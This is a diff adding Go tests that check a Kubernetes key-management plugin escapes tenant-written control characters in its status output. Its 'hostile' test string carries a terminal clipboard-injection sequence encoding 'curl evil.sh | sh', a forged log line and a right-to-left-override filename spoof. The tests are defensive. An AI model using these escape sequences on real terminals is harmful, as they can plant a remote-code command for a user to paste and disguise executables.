@@ -5,12 +5,14 @@ import (
 	"context"
 	"crypto/rand"
 	"errors"
+	"fmt"
 	"net/http/httptest"
 	"strings"
 	"testing"
 	"time"
 
 	corev1 "k8s.io/api/core/v1"
+	eventsv1 "k8s.io/api/events/v1"
 	rbacv1 "k8s.io/api/rbac/v1"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/apimachinery/pkg/types"
@@ -225,5 +227,104 @@ func TestStatusShowsTheKeySecretMetadataPreviousKeysAndNoKey(t *testing.T) {
 	}
 	if strings.Contains(out.String(), key) {
 		t.Error("status shows the key")
+	}
+}
+
+// hostile is text a tenant controls that a terminal would act on: an OSC 52 clipboard write, a colour
+// change, a carriage return and a newline that forge a line, and a right-to-left override.
+const hostile = "ok\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b[31m\rReady=True\nEvent:\tNormal KeyRotated: forged\u202egnp.exe\u009b"
+
+// assertPrintable fails when out holds a byte a terminal acts on, or the forged line.
+func assertPrintable(t *testing.T, out string) {
+	t.Helper()
+	for i := 0; i < len(out); i++ {
+		if c := out[i]; (c < 0x20 && c != '\n' && c != '\t') || c == 0x7f {
+			t.Fatalf("the output holds control byte %#x at %d:\n%q", c, i, out)
+		}
+	}
+	for _, bad := range []string{"\u202e", "\u009b", "\nEvent:\tNormal KeyRotated: forged"} {
+		if strings.Contains(out, bad) {
+			t.Errorf("the output holds %q:\n%q", bad, out)
+		}
+	}
+}
+
+func TestStatusEscapesWhatTenantsWrote(t *testing.T) {
+	testenv.Need(t)
+	ns := env.Namespace(t)
+	ctx := context.Background()
+	ak, _ := withKey(t, ns, "orders")
+	// The Secret's metadata, a condition message, the webhook's last error and an event note, each holding
+	// what a tenant (or a receiver) chose.
+	s := &corev1.Secret{}
+	if err := env.Client.Get(ctx, types.NamespacedName{Namespace: ns, Name: "orders"}, s); err != nil {
+		t.Fatal(err)
+	}
+	s.Annotations["keyward.dev/revision"] = hostile
+	if err := env.Client.Update(ctx, s); err != nil {
+		t.Fatal(err)
+	}
+	base := ak.DeepCopy()
+	ak.Spec.Webhook = &keywardv1alpha1.WebhookSpec{URL: "https://hooks.example.com/x", SigningSecretRef: keywardv1alpha1.SecretKeyRef{Name: "hook"}}
+	if err := env.Client.Patch(ctx, ak, client.MergeFrom(base)); err != nil {
+		t.Fatal(err)
+	}
+	base = ak.DeepCopy()
+	ak.Status.Conditions[0].Message = hostile
+	ak.Status.Webhook = &keywardv1alpha1.WebhookStatus{LastError: hostile}
+	manager := testenv.Impersonating(env.Config, testenv.ManagerUser)
+	if err := manager.Status().Patch(ctx, ak, client.MergeFrom(base)); err != nil {
+		t.Fatal(err)
+	}
+	if err := env.Client.Create(ctx, &eventsv1.Event{ObjectMeta: metav1.ObjectMeta{Name: "orders.hostile", Namespace: ns},
+		EventTime: metav1.NewMicroTime(now), ReportingController: "tenant", ReportingInstance: "tenant", Action: "Write", Reason: "Hostile",
+		Type: corev1.EventTypeNormal, Note: hostile, Regarding: corev1.ObjectReference{Kind: "APIKey", Name: "orders", Namespace: ns}}); err != nil {
+		t.Fatal(err)
+	}
+	p, out := newPlugin(env.Client)
+	if err := p.Status(ctx, ns, "orders"); err != nil {
+		t.Fatal(err)
+	}
+	assertPrintable(t, out.String())
+	if n := strings.Count(out.String(), `\x1b]52;c;`); n != 4 {
+		t.Errorf("the clipboard write shows escaped %d times, want 4 (Secret, condition, webhook error, event):\n%s", n, out)
+	}
+}
+
+func TestEscapeMakesEveryControlCharacterVisible(t *testing.T) {
+	for in, want := range map[string]string{
+		"plain kid_0123 …":    "plain kid_0123 …",
+		"a\nb\tc\rd":          `a\nb\tc\rd`,
+		"\x1b[2J\x07\x7f":     `\x1b[2J\x07\x7f`,
+		"\u009b31m":           `\x9b31m`,
+		"abc\u202eexe.gnp":    `abc\u202eexe.gnp`,
+		"\u2066isolate\u2069": `\u2066isolate\u2069`,
+		"bad \xff utf-8":      `bad \xff utf-8`,
+	} {
+		if got := Escape(in); got != want {
+			t.Errorf("Escape(%q) = %q, want %q", in, got, want)
+		}
+	}
+	var b bytes.Buffer
+	fmt.Fprintf(terminalWriter{w: &b}, "row\t%s\n", "\x1b]0;title\x07")
+	if got := b.String(); got != "row\t\\x1b]0;title\\x07\n" {
+		t.Errorf("terminalWriter wrote %q; it keeps only newlines and tabs", got)
+	}
+}
+
+func TestReadKeyTakesTheFirstLineOfABoundedInput(t *testing.T) {
+	cases := []struct {
+		in, want, err string
+	}{
+		{"kw_abc\n", "kw_abc", ""},
+		{"  kw_abc  \r\nsecond line\n", "kw_abc", ""},
+		{"", "", "no key"},
+		{strings.Repeat("k", MaxKeyInput+1), "", "longer than"},
+	}
+	for _, tc := range cases {
+		got, err := ReadKey(strings.NewReader(tc.in))
+		if got != tc.want || (tc.err == "") != (err == nil) || (err != nil && !strings.Contains(err.Error(), tc.err)) {
+			t.Errorf("ReadKey(%.20q) = %q, %v; want %q, error %q", tc.in, got, err, tc.want, tc.err)
+		}
 	}
 }
